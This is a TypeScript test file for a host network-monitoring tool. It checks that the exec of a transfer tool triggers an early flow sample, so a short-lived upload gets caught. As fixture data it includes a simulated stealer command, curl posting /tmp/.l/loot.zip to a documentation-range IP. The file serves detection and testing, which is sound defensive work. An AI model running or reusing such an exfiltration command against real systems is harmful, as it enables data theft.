/**
 * A transfer tool's exec brings the next flow sample forward (flows.transfer_sample_delay), end to end through the
 * darwin backend on Linux: `outflow query` with the fake eslogger playing the exec of `curl -F @loot.zip http://…` and
 * the fake nettop, whose second sample is the first to show curl's upload. With a sample interval of 60 s, only the
 * early sample can show it within the query's few seconds of collection: a stealer's curl that sends its haul in a
 * second or two and exits is gone by the next regular sample.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { FAKE_TOOLS_DIR, runOutflow } from '../../../test/helpers/cli.js';
import { body, esLine } from '../../collectors/eslogger/testing/es-lines.mjs';

const root = mkdtempSync(path.join(process.env.OUTFLOW_TEST_ROOT ?? tmpdir(), 'outflow-transfer-sample-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const SHELL = 4_300_010;
const CURL = 4_300_011;
const HEADER = 'time,,interface,state,bytes_in,bytes_out,rx_dupe,rx_ooo,re-tx,rtt_avg,rcvsize,tx_win,tc_class,tc_mgt,cc_algo,P,C,R,W,arch,';
const LAUNCHD = '{time},launchd.1,,,0,0,0,0,0,,,,,,,,,,,,';
const CURL_ROWS = [
  `{time},curl.${CURL},,,900,3145728,0,0,0,,,,,,,,,,,,`,
  '{time},tcp4 10.20.30.41:50999<->203.0.113.9:80,en0,Established,900,3145728,0,0,0,12.00 ms,131072,262144,BE,-,cubic,-,-,-,-,so,',
];

async function collect(delay: number) {
  const dir = mkdtempSync(path.join(root, 'run-'));
  const scenario = path.join(dir, 'scenario');
  mkdirSync(path.join(scenario, 'nettop'), { recursive: true });
  // sample 1 (at start): no curl yet; sample 2 and later: curl's upload, open
  writeFileSync(path.join(scenario, 'nettop', '001.txt'), [HEADER, LAUNCHD].join('\n') + '\n');
  writeFileSync(path.join(scenario, 'nettop', '002.txt'), [HEADER, LAUNCHD, ...CURL_ROWS].join('\n') + '\n');
  const started = new Date(Date.now() - 60_000);
  const lstart = (d: Date) => d.toUTCString().replace(/^(\w+), (\d+) (\w+) (\d+) ([\d:]+) GMT$/, (_, w, dd, m, y, t) => `${w} ${m} ${String(Number(dd)).padStart(2)} ${t} ${y}`);
  writeFileSync(
    path.join(scenario, 'ps.txt'),
    [`${String(SHELL).padStart(7)}     1   501 ${lstart(started)} /bin/zsh`, `${String(CURL).padStart(7)} ${SHELL}   501 ${lstart(new Date())} /usr/bin/curl`, `      1     0     0 ${lstart(started)} /sbin/launchd`].join('\n') + '\n',
  );
  const now = Date.now();
  const zsh = { pid: SHELL, ppid: 1, path: '/bin/zsh', platform: true, signingId: 'com.apple.zsh', startMs: now - 60_000 };
  const curl = { pid: CURL, ppid: SHELL, path: '/usr/bin/curl', platform: true, signingId: 'com.apple.curl', startMs: now };
  const es = path.join(dir, 'eslogger.jsonl');
  writeFileSync(es, esLine({ kind: 'exec', timeMs: now, gseq: 1, process: zsh, body: body.exec(curl, ['curl', '-s', '-F', 'f=@/tmp/.l/loot.zip', 'http://203.0.113.9/up'], '/tmp', 10) }) + '\n');
  const config = path.join(dir, 'config.yaml');
  writeFileSync(config, `flows:\n  sample_interval: 60\n  transfer_sample_delay: ${delay}\nprocesses:\n  sample_interval: 30\n`);
  const calls = path.join(dir, 'calls.jsonl');
  const r = await runOutflow(['query', '--config', config, '--format', 'json', '--collect', '8', 'SELECT pid, remote_address, bytes_out FROM process_network_flows ORDER BY pid'], {
    env: {
      ...process.env,
      OUTFLOW_PLATFORM: 'darwin',
      OUTFLOW_TOOL_DIR: FAKE_TOOLS_DIR,
      OUTFLOW_FAKE_SCENARIO: scenario,
      OUTFLOW_FAKE_STATE_DIR: dir,
      OUTFLOW_FAKE_ESLOGGER: es,
      OUTFLOW_FAKE_CALLS: calls,
    },
    timeoutMs: 80_000,
  });
  expect(r.code, r.stderr.slice(-3000)).toBe(0);
  const nettopRuns = (existsSync(calls) ? readFileSync(calls, 'utf8') : '').split('\n').filter((l) => l.includes('"tool":"nettop"')).length;
  const rows = r.stdout.split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as { pid: number; remote_address: string; bytes_out: number });
  return { rows, nettopRuns };
}

describe.concurrent('an early flow sample after the exec of a transfer tool (darwin, fake eslogger and nettop)', () => {
  it("curl's upload is sampled within the query's 8 s of collection, not 60 s later", { timeout: 90_000 }, async () => {
    const { rows, nettopRuns } = await collect(0.5);
    expect(rows).toContainEqual({ pid: CURL, remote_address: '203.0.113.9', bytes_out: 3145728 });
    // the early sample, and at most a few more: samples come no closer than the delay
    expect(nettopRuns).toBeGreaterThanOrEqual(2);
    expect(nettopRuns).toBeLessThanOrEqual(8);
  });

  it('with transfer_sample_delay 0 the next sample waits its turn: the upload is not seen in those 8 s', { timeout: 90_000 }, async () => {
    const { rows, nettopRuns } = await collect(0);
    expect(rows.filter((r) => r.pid === CURL)).toEqual([]);
    expect(nettopRuns).toBe(1);
  });
});
